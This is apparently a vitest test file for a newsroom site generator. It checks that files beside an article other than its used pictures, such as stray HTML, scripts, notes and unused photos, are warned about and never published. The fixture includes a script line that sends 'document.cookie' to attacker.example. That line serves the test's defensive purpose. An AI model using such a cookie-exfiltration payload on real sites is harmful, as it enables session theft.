import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runCli } from "../../support/cli.ts";
import { filesUnder } from "../../support/picture-files.ts";

/**
 * Issue 18 item 1: a bundle publishes only the pictures its article uses,
 * re-encoded; every other file beside `index.md` (a page, a script, notes,
 * an unused photo) stays out of the site, each named in a warning.
 */
const NOW = "2026-10-20T12:00:00+04:30";
let work: string;
let content: string;
let bundle: string;
const ORIGINALS = new Map<string, Buffer>();

beforeAll(async () => {
  work = mkdtempSync(path.join(tmpdir(), "newsroom-bundle-files-"));
  content = path.join(work, "content");
  bundle = path.join(content, "national", "convoy");
  mkdirSync(path.join(bundle, "photos"), { recursive: true });
  const put = (name: string, bytes: Buffer | string): void => {
    writeFileSync(path.join(bundle, name), bytes);
    ORIGINALS.set(name, Buffer.from(bytes));
  };
  put(
    "lead.jpg",
    await sharp({ create: { width: 900, height: 600, channels: 3, background: "#4a6d8c" } })
      .jpeg()
      .toBuffer(),
  );
  put(
    "photos/chart.png",
    await sharp({ create: { width: 500, height: 300, channels: 4, background: "#c81e1e80" } })
      .png()
      .toBuffer(),
  );
  put(
    "unused.jpg",
    await sharp({ create: { width: 300, height: 200, channels: 3, background: "#222222" } })
      .jpeg()
      .toBuffer(),
  );
  put("evil.html", "<!doctype html><script>document.title='pwned'</script>");
  put("payload.js", "fetch('https://attacker.example/'+document.cookie)");
  put("notes.txt", "Source: the driver, phone +93 700 000 000. Do not publish.");
  put("photos/raw.psd", "8BPS not really");
  writeFileSync(
    path.join(bundle, "index.md"),
    "---\ntitle: Convoy\ndate: 2026-10-14T09:30:00+04:30\nimage:\n  src: lead.jpg\n  alt: Trucks on a road\n---\nThe convoy reached Nahrin.\n\n![Flour prices](photos/chart.png)\n\n[The notes](notes.txt) are not published.\n",
  );
});
afterAll(() => rmSync(work, { recursive: true, force: true }));

describe("files beside an article", () => {
  it("should publish only the used pictures, re-encoded, and name each other file in a warning at index.md", () => {
    const out = path.join(work, "out");
    const result = runCli(["build", "--content", content, "--out", out, "--now", NOW]);
    expect(result.stderr).not.toContain("internal error");
    expect(result.status).toBe(0);
    const index = `${content}/national/convoy/index.md`;
    for (const name of ["evil.html", "notes.txt", "payload.js", "photos/raw.psd", "unused.jpg"]) {
      expect(result.stderr).toContain(`${index}:1:1  warning  bundle-file-ignored  \`${name}\``);
    }
    for (const name of ["lead.jpg", "photos/chart.png"]) expect(result.stderr).not.toContain(`bundle-file-ignored  \`${name}\``);

    const published = filesUnder(path.join(out, "national", "convoy"));
    expect(published.filter((rel) => rel !== "index.html" && !/^(photos\/)?(lead|chart)-[0-9a-f]{10}-\d+\.(avif|webp|jpg|png)$/.test(rel))).toEqual([]);
    expect(published.some((rel) => rel.startsWith("lead-"))).toBe(true);
    expect(published.some((rel) => rel.startsWith("photos/chart-"))).toBe(true);

    // No file anywhere in the site is any bundle file byte for byte, nor holds the script or the notes.
    for (const rel of filesUnder(out)) {
      const bytes = readFileSync(path.join(out, rel));
      for (const [name, original] of ORIGINALS) expect([rel, name, bytes.equals(original)]).toEqual([rel, name, false]);
      expect([rel, bytes.includes("document.cookie"), bytes.includes("+93 700"), bytes.includes("pwned")]).toEqual([rel, false, false, false]);
    }

    // The page's sharing picture is a file that is published.
    const html = readFileSync(path.join(out, "national", "convoy", "index.html"), "utf8");
    const shared = /<meta property="og:image" content="https?:\/\/[^/]+\/([^"]+)"/.exec(html)?.[1];
    expect(shared).toMatch(/^national\/convoy\/lead-[0-9a-f]{10}-\d+\.jpg$/);
    expect(filesUnder(out)).toContain(shared);
  });
});
